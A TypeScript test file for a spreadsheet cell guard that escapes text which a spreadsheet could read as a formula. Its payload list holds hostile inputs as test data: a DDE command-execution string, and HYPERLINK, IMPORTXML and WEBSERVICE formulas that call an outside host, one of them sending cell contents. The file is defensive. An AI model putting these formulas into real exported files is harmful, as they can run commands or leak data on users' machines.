import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardCell, looksLikeFormula, unguardCell } from './cell-guard';

const LEADS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const PAYLOADS = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.org?x="&A1,"open")',
  'IMPORTXML("https://example.org","//a")',
  'WEBSERVICE("https://example.org")',
  'A1',
];
const BEFORE = ['', ' ', '\u00a0', '"', "'", '\t', '\r', '\n', '\u200b', '\ufeff', '“', ' " '];

/** Every lead with every payload, and every lead behind everything a program may skip. */
const DANGEROUS = [
  ...LEADS.flatMap((lead) => PAYLOADS.map((payload) => lead + payload)),
  ...LEADS.flatMap((lead) => BEFORE.map((before) => `${before}${lead}A1`)),
  '\twords',
  '\rwords',
  '\nwords',
  '\0words',
  '  \twords',
];

describe('a text cell that a spreadsheet could take for a formula', () => {
  it.each(DANGEROUS.map((cell) => [JSON.stringify(cell), cell]))('%s is guarded', (_name, cell) => {
    expect(looksLikeFormula(cell)).toBe(true);
    expect(guardCell(cell)).toBe(`'${cell}`);
    expect(unguardCell(guardCell(cell))).toBe(cell);
  });

  it('is one of more than two hundred in this table', () => {
    expect(new Set(DANGEROUS).size).toBeGreaterThan(210);
  });
});

describe('a text cell that is no danger', () => {
  it.each([
    ['18 of 24 drones'],
    ['“18 of 24”, said the air force'],
    ["'tis a quote"],
    ['— and so on'],
    ['− 5 degrees, with a minus sign'],
    ['a = b'],
    ['checker@desk.example'],
    ['≈ 40'],
    ['¶ 3'],
    [''],
    [' '],
  ])('%j stays as it is', (cell) => {
    expect(guardCell(cell)).toBe(cell);
    expect(unguardCell(cell)).toBe(cell);
  });

  it.each([['-5'], ['-5%'], ['-5 %'], ['+1,200.50'], ['-0.5'], ['+40'], ['-1.000,5']])(
    'the figure %s keeps its sign and stays a figure',
    (cell) => {
      expect(guardCell(cell)).toBe(cell);
    },
  );

  it.each([['-5+cmd'], ['-5%+A1'], ['-1-1'], ['+1 '], ['-'], ['+'], ['-%']])(
    '%s is more than a figure, and is guarded',
    (cell) => {
      expect(guardCell(cell)).toBe(`'${cell}`);
    },
  );
});

it('no guarded text begins with what begins a formula, and each leads back to its own', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('', ...LEADS, "'", "'="),
      (text, lead) => {
        const cell = guardCell(lead + text);
        expect(unguardCell(cell)).toBe(lead + text);
        if (looksLikeFormula(lead + text)) expect(cell.startsWith("'")).toBe(true);
      },
    ),
    { numRuns: 2_000 },
  );
});
